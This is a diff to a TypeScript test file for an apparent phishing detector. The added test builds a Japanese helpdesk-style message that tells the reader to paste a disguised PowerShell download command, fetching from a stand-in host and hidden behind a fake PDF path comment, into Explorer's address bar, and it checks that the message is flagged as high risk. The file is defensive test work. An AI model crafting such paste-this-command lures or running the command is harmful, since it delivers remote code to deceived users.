@@ -191,3 +191,15 @@ test('a program with the protection switched off is a sign, also of a partner; a
   assert.deepEqual(await partner('https://www.kiki-support.example/fix/KiKi_1024.zip'), ['medium worded-malware'])
   assert.deepEqual(await partner('https://www.kiki-support.example/manual/'), [])
 })
+
+test('a command for the address bar of Explorer is a sign over several numbered lines, too; a folder to be opened there is none', async () => {
+  const from = 'ヘルプデスク <help@koukai-desk2026.example>'
+  const steps = (what: string) =>
+    `次の手順で取得願います。\n 1. エクスプローラーを開く\n 2. アドレスバーを選択し、下の文字列を貼り付けて Enter\n    ${what}\n 3. 「確認済」と出れば完了です`
+  const [sign] = await alone({
+    from,
+    text: steps('powershell -c "iwr https://koukai-desk2026.example/a" # \\\\fs\\手順書.pdf'),
+  })
+  assert.match(String(sign), /^high/)
+  assert.deepEqual(await alone({ from: `情報課 <jim@${OURS}>`, text: steps('\\\\fs01\\共有\\手順書.pdf') }), [])
+})
